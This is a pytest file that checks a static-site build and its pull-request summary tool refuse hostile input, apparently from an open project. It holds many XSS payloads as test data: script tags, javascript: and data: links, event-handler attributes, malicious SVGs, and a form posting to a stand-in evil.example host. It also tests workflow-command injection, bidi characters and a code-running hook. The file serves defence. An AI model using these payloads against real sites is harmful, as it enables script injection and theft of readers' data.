"""Safe to publish from a pull request, part 2 (issue 23): what a page's Markdown body renders to,
the files of the content folder, icon names, hidden controls, CI logs and the pull request's summary.

Each class here was seen passing hostile input before its fix (the build published it, or printed
it, or the summary made it live); every test builds or runs the real tools on a temporary copy.
"""

from __future__ import annotations

import re
import subprocess

import pytest
import yaml

from conftest import ROOT, make_project, run_build

A11 = "content/areas/1-finding/1-1-red.md"
VALIDATE = str(ROOT / "scripts" / "validate")


def _validate(project, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([VALIDATE, "-f", str(project / "mkdocs.yml"), *args], capture_output=True, text=True,
                          timeout=180)


def _with_body(tmp_path, lines: list[str], page: str = A11):
    """The basic fixture with ``lines`` appended to ``page``'s body, each after a blank line."""
    project = make_project(tmp_path)
    target = project / page
    text = target.read_text(encoding="utf-8") + "".join(f"\n{line}\n" for line in lines)
    target.write_text(text, encoding="utf-8")
    all_lines = text.split("\n")
    # each entry's number: the line of its last line (where an attribute list after a paragraph stands)
    numbers = {line: all_lines.index(line.split("\n")[0]) + line.count("\n") + 1 for line in lines}
    return project, numbers


# -- 1. page bodies: an allow-list of markup, nothing else published ----------------------------

# Each line is one attack, put in an action page's body after a blank line; the build must refuse
# every one at its line, and name what it is.
HOSTILE_BODY = {
    "<script>alert(1)</script>": "<script>",
    "<img src=x onerror=alert(2)>": "onerror=",
    "[a link](javascript:alert(3))": 'href="javascript:alert(3)"',
    '<a href="javascript:alert(4)">a</a>': 'href="javascript:alert(4)"',
    "[encoded](jav&#x61;script:alert(5))": 'href="javascript:alert(5)"',
    '<a href="JaVaScRiPt&colon;alert(6)">b</a>': 'href="JaVaScRiPt:alert(6)"',
    "<svg><script>alert(7)</script></svg>": "<svg>",
    '<iframe src="https://evil.example/"></iframe>': "<iframe>",
    '<object data="x.swf"></object>': "<object>",
    '<embed src="x.swf">': "<embed>",
    '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>': "<form>",
    "<style>body { display: none }</style>": "<style>",
    '<p style="background: url(https://evil.example/track.png)">styled</p>': "style=",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">': "<meta>",
    '<base href="https://evil.example/">': "<base>",
    '<a href="data:text/html,<script>alert(8)</script>">c</a>': 'href="data:',
    '<a href="vbscript:msgbox(9)">d</a>': 'href="vbscript:',
    '<div markdown="1" onclick="alert(10)">**bold**</div>': "onclick=",
    "A paragraph.\n{: onmouseover=\"alert(11)\" }": "onmouseover=",
    '<img src="https://tracker.example/pixel.gif" alt="A picture">': 'src="https://tracker.example',
    "<!-- a --!> <img src=x onerror=alert(12)> -->": "alert(12)",
    '<details open ontoggle="alert(13)"><summary>More</summary>x</details>': "ontoggle=",
    '<a href="https://ok.example/" target="_blank">e</a>': "target=",
    "<math><mi xlink:href=\"javascript:alert(14)\">x</mi></math>": "<math>",
    '<span data-md-component="search">s</span>': "data-md-component=",
    '<h2 id="__config">Clobbers the theme\'s settings</h2>': 'id="__config"',
    '<p class="md-header">Stands in for the header</p>': 'class="md-header"',
    '<a href="//evil.example/">f</a>': 'href="//evil.example/"',
    "</div></article>": "</article> that closes nothing",
    "<div>An element left open takes in the page after it": "<div> that is not closed",
}


@pytest.fixture(scope="module")
def hostile_body(tmp_path_factory):
    project, numbers = _with_body(tmp_path_factory.mktemp("bodies"), list(HOSTILE_BODY))
    return project, numbers, run_build(project)


def test_a_hostile_body_stops_the_build_naming_each_line_and_what_is_wrong(hostile_body):
    project, numbers, build = hostile_body
    assert build.returncode == 1, build.output
    assert "Traceback" not in build.output
    problems = build.problems()
    missing = []
    for line, what in HOSTILE_BODY.items():
        number = numbers[line]
        if not any(p.startswith(f"{A11}:{number}: the page's text has") and what in p for p in problems):
            missing.append(f"line {number} ({line!r}): nothing naming {what!r}")
    assert not missing, "\n".join(missing) + "\n\n" + build.output
    assert not (build.site / "areas").exists(), "nothing may be published"


def test_validate_reports_the_same_body_problems(hostile_body):
    project, numbers, _build = hostile_body
    result = _validate(project)
    assert result.returncode == 1, result.stdout + result.stderr
    for line, what in HOSTILE_BODY.items():
        assert any(out.startswith(f"{A11}:{numbers[line]}: ") and what in out for out in result.stdout.splitlines()), \
            (line, result.stdout)


ALLOWED_BODY = [
    "## A heading {: #own-id .note }",
    "| Month | Plans |\n| :--- | ---: |\n| May | 12 |",
    "<details><summary>More about this</summary>\n\nThe rest, in **Markdown**.\n\n</details>",
    'The <abbr title="Education, health and care">EHC</abbr> plan.',
    '![A bar chart of plans by month](../../assets/pictures/openmoji/1F4C5.svg)',
    "[The council](https://www.example.org/) and [mail us](mailto:send@example.org) and [a page](../../glossary.md)",
    '<div style="display: flex; gap: 0.5em; border-top: 1.2em solid var(--md-primary-fg-color)">Laid out</div>',
    "- one\n- two\n\n1. first\n2. second",
]


def test_what_editors_write_is_published_as_written(tmp_path):
    project, _numbers = _with_body(tmp_path, ALLOWED_BODY)
    build = run_build(project)
    assert build.returncode == 0, build.output
    page = build.html("areas/1-finding/1-1-red/")
    assert page.find("h2", id="own-id") is not None
    assert page.find("td", string="12") is not None
    assert page.find("summary", string="More about this") is not None
    assert page.find("abbr", title="Education, health and care") is not None
    assert page.find("img", alt="A bar chart of plans by month") is not None
    assert page.find("a", href="mailto:send@example.org") is not None
    assert page.find("div", string="Laid out")["style"].startswith("display: flex")


# -- 2. files: only safe types, no SVG that can run ---------------------------------------------

EVIL_SVG = {
    "script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
    "foreign.svg": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>x</div></foreignObject></svg>',
    "xlink.svg": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                  '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>'),
    "use.svg": '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/x.svg#a"/></svg>',
    "animate.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" '
                    'to="javascript:alert(1)"/><text y="9">x</text></a></svg>'),
    "entity.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "prefixed.svg": '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>',
    "styled.svg": '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url(https://evil.example/a)"/></svg>',
}
REFUSED_FILES = {
    "content/page.html": "write the page in Markdown",
    "content/PAGE.HTML": "write the page in Markdown",
    "content/old.htm": "write the page in Markdown",
    "content/x.xhtml": "write the page in Markdown",
    "content/x.shtml": "write the page in Markdown",
    "content/x.php": "write the page in Markdown",
    "content/app.js": "works without JavaScript",
    "content/mod.mjs": "works without JavaScript",
    "content/code.wasm": "works without JavaScript",
    "content/feed.xml": "is a .xml file",
    "content/small.svgz": "is a .svgz file",
    "content/noextension": "has no file type",
    "content/.env": "has no file type",
}


def test_hostile_pictures_and_files_stop_the_build_and_are_not_published(tmp_path):
    files: dict[str, str | bytes | None] = {f"content/assets/pictures/{name}": text for name, text in EVIL_SVG.items()}
    files.update({name: "<script>alert(1)</script>" for name in REFUSED_FILES})
    files["content/assets/pictures/fake.png"] = "<html><script>alert(1)</script></html>"
    files["content/data/notes.csv"] = "a,b\n<script>alert(1)</script>,2\n"
    project = make_project(tmp_path, files=files)
    build = run_build(project)
    assert build.returncode == 1, build.output
    problems = build.problems()
    for name in EVIL_SVG:
        assert any(p.startswith(f"content/assets/pictures/{name}:") and "can run or reach outside the picture" in p
                   for p in problems), (name, build.output)
    for name, what in REFUSED_FILES.items():
        assert any(p.startswith(f"{name}: ") and what in p for p in problems), (name, build.output)
    assert any(p.startswith("content/assets/pictures/fake.png: is not a PNG file") for p in problems), build.output
    assert any(p.startswith("content/data/notes.csv: holds web-page markup") for p in problems), build.output
    assert not build.site.exists() or not any(build.site.rglob("*.html"))
    result = _validate(project)
    assert result.returncode == 1
    for name in [*REFUSED_FILES, "content/assets/pictures/script.svg"]:
        assert f"{name}:" in result.stdout, (name, result.stdout)


def test_a_site_can_publish_another_safe_type_but_never_one_that_runs(tmp_path):
    def allow(types):
        return lambda text: text.replace("      plan_name: test plan\n",
                                         f"      plan_name: test plan\n      publish_file_types: {types}\n")

    files = {"content/about/minutes.docx": b"PK\x03\x04 a document"}
    refused = run_build(make_project(tmp_path / "a", files=files))
    assert refused.returncode == 1 and "content/about/minutes.docx: is a .docx file" in refused.output
    build = run_build(make_project(tmp_path / "b", files=files, config_edit=allow("[.docx]")))
    assert build.returncode == 0, build.output
    assert (build.site / "about" / "minutes.docx").read_bytes() == b"PK\x03\x04 a document"
    never = run_build(make_project(tmp_path / "c", config_edit=allow("[.html, js]")))
    assert never.returncode == 1
    assert "publish_file_types: .html files can run in a reader's browser" in never.output, never.output
    assert "publish_file_types: .js files can run" in never.output


# -- 3. icon names ----------------------------------------------------------------------------------

def _status_icon(icon: str):
    """Settings with the default scale written out, the first status's icon set to ``icon``."""
    import dataclasses
    import json

    from plan_progress.core.scale import DEFAULT_SCALE

    scale = [{k: list(v) if isinstance(v, tuple) else v for k, v in dataclasses.asdict(s).items()}
             for s in DEFAULT_SCALE]
    scale[0]["icon"] = icon

    def edit(text: str) -> str:
        return text.replace("      plan_name: test plan\n",
                            f"      plan_name: test plan\n      statuses: {json.dumps(scale)}\n")
    return edit


@pytest.mark.parametrize("icon, message", [
    ("../../../../../../docs-images/x", "is not an icon name: write set/name with letters, digits and dashes"),
    ("material/../../x", "is not an icon name"),
    ("material/check-circl", "the closest icons are material/check-circle"),
])
def test_a_status_icon_must_be_a_set_and_name_the_theme_has(tmp_path, icon, message):
    project = make_project(tmp_path, config_edit=_status_icon(icon))
    build = run_build(project)
    assert build.returncode == 1, build.output
    assert "names icons that cannot be used" in build.output and message in build.output, build.output


def test_a_status_icon_of_the_sites_own_that_holds_script_is_refused(tmp_path):
    project = make_project(tmp_path, files={"overrides/.icons/local/evil.svg":
                                            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'},
                           config_edit=lambda t: _status_icon("local/evil")(
                               t if "custom_dir" in t else t.replace("  name: material\n",
                                                                     "  name: material\n  custom_dir: overrides\n")))
    build = run_build(project)
    assert build.returncode == 1, build.output
    assert "icon 'local/evil'" in build.output and "event attribute onload=" in build.output, build.output


# -- 4. bidirectional and invisible controls --------------------------------------------------------

def test_bidi_controls_are_refused_in_fields_bodies_and_settings(tmp_path):
    project = make_project(tmp_path)
    page = project / A11
    text = page.read_text(encoding="utf-8").replace("note: Needs intervention.", "note: \"Done \\u202e.ssergorp ni\"")
    text += "\nA line with a hidden \u2066isolate\u2069.\n\nA zero\u200bwidth space.\n"
    page.write_text(text, encoding="utf-8")
    lines = text.split("\n")
    note_line = next(i for i, line in enumerate(lines, 1) if "ssergorp" in line)
    body_line = next(i for i, line in enumerate(lines, 1) if "isolate" in line)
    zero_line = next(i for i, line in enumerate(lines, 1) if "zero" in line)
    build = run_build(project)
    assert build.returncode == 1, build.output
    problems = build.problems()
    assert any(p.startswith(f"{A11}:{note_line}: history[2].note: contains an invisible character") and "U+202E" in p
               for p in problems), build.output
    assert any(p.startswith(f"{A11}:{body_line}: the page's text contains an invisible character") and "U+2066" in p
               for p in problems), build.output
    assert any(p.startswith(f"{A11}:{zero_line}:") and "U+200B" in p for p in problems), build.output
    settings = run_build(make_project(tmp_path / "s", config_edit=lambda t: t.replace(
        "site_name: Test plan progress", 'site_name: "Test plan \\u2067progress"')))
    assert settings.returncode == 1 and "site_name: contains an invisible character" in settings.output, settings.output


def test_joiners_and_marks_that_languages_need_are_kept(tmp_path):
    project, _numbers = _with_body(tmp_path, ["می\u200cخواهم (Persian), 👨\u200d👩\u200d👧 and שלום\u200f עולם"])
    build = run_build(project)
    assert build.returncode == 0, build.output


# -- 5. CI logs: nothing the build prints starts a workflow command -------------------------------

def _command_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.strip().startswith("::")]


def test_a_key_or_a_file_name_with_a_line_break_cannot_write_a_workflow_command(tmp_path):
    project = make_project(tmp_path, files={
        # MkDocs' own warning names the file: its link goes nowhere
        "content/about/a\n::warning file=x::fake.md": "# Hello\n\n[a link](nowhere.md)\n",
    })
    page = project / A11
    page.write_text(page.read_text(encoding="utf-8").replace(
        "status: red\n", 'status: red\n"evil\\n::error title=Build passed::all good": 1\n', 1), encoding="utf-8")
    for build in (run_build(project), run_build(project, "--clean")):  # in process, and the real command
        assert build.returncode == 1, build.output
        assert "::warning" in build.output or "%0A" in build.output, build.output
        assert _command_lines(build.output) == [], build.output
    result = _validate(project)
    assert _command_lines(result.stdout + result.stderr) == [], result.stdout
    github = _validate(project, "--format", "github")
    assert all(line.startswith(("::error ", "::warning ", "Checked ")) for line in github.stdout.splitlines()), \
        github.stdout


# -- 6. the pull request's summary ------------------------------------------------------------------

def _summary_repo(tmp_path, note: str, extra=None):
    from test_changes import changes, commit, git_repo

    project = make_project(tmp_path)
    git_repo(project)
    page = project / A11
    page.write_text(page.read_text(encoding="utf-8").replace("note: Needs intervention.", f"note: {note}"),
                    encoding="utf-8")
    if extra:
        extra(project)
    commit(project)
    return changes(project, "--base", "HEAD~1")


def test_the_summary_shows_mentions_and_addresses_as_text(tmp_path):
    result = _summary_repo(tmp_path, "'Ask @octocat and @org/team, see https://evil.example and www.evil.example, "
                                     "fixes #12 <b>now</b>'")
    assert result.returncode == 0, result.stderr
    [line] = [line for line in result.stdout.splitlines() if "octocat" in line]
    for live in ("@octocat", "@org/team,", "https://evil.example", "www.evil.example,", "#12"):
        assert f"`{live}`" in line, (live, line)
    assert "\\<b\\>now\\</b\\>" in line
    outside_code = re.sub(r"`[^`]*`", "", line)
    assert "@" not in outside_code and "://" not in outside_code and "www." not in outside_code, line


def test_the_summary_refuses_a_note_with_a_bidi_control(tmp_path):
    result = _summary_repo(tmp_path, '"Done \\u202e.ssergorp ni"')
    assert result.returncode == 1, result.stdout
    assert "U+202E" in result.stderr and "ssergorp" not in result.stdout, result.stderr


def test_a_change_to_the_tools_is_named_at_the_top_of_the_summary(tmp_path):
    def change_tools(project):
        (project / "scripts").mkdir(exist_ok=True)
        (project / "scripts" / "changes").write_text("#!/bin/sh\necho all good\n", encoding="utf-8")

    result = _summary_repo(tmp_path, "Still red.", change_tools)
    assert result.returncode == 0, result.stderr
    lines = [line for line in result.stdout.splitlines() if line.strip()]
    assert lines[0] == "## What this change does to the site"
    assert lines[1].startswith("**This change also changes the site's tools or settings** (1 file: `scripts/changes`)")


def test_the_summary_does_not_run_code_named_by_the_settings(tmp_path):
    marker = tmp_path / "ran"

    def hook(project):
        (project / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n", encoding="utf-8")
        with open(project / "mkdocs.yml", "a", encoding="utf-8") as settings:
            settings.write("hooks:\n  - evil.py\n")

    result = _summary_repo(tmp_path, "Still red.", hook)
    assert result.returncode == 1, result.stdout
    assert "hooks:, INHERIT: or a YAML Python tag" in result.stderr
    assert not marker.exists()


# -- 7. the workflow --------------------------------------------------------------------------------

def test_every_container_is_pinned_by_digest_with_its_tag_beside_it():
    path = ROOT / ".github" / "workflows" / "checks.yml"
    text = path.read_text(encoding="utf-8")
    containers = [job["container"] for job in yaml.safe_load(text)["jobs"].values() if "container" in job]
    assert containers
    for container in containers:
        image = container if isinstance(container, str) else container["image"]
        assert re.fullmatch(r"[\w./-]+:[\w.-]+@sha256:[0-9a-f]{64}", image), image
        tag = image.split("@")[0].split(":")[1]
        assert all(line.rstrip().endswith(f"# {tag}") for line in text.splitlines() if image in line), image


def test_the_summary_job_runs_the_base_branchs_tools_on_the_pull_requests_content():
    jobs = yaml.safe_load((ROOT / ".github/workflows/checks.yml").read_text(encoding="utf-8"))["jobs"]
    steps = jobs["summary"]["steps"]
    paths = {step["with"]["path"]: step["with"].get("ref") for step in steps
             if str(step.get("uses", "")).startswith("actions/checkout")}
    assert paths == {"pr": None, "base": "${{ github.event.pull_request.base.sha }}"}
    [run] = [step["run"] for step in steps if "run" in step]
    assert run.split()[0] == "./base/scripts/changes" and "--config-file pr/mkdocs.yml" in run


def test_docstring_examples():
    import doctest

    from plan_progress.core import published_files, safe_text, sanitise

    for module in (sanitise, safe_text, published_files):
        assert doctest.testmod(module).failed == 0, module.__name__
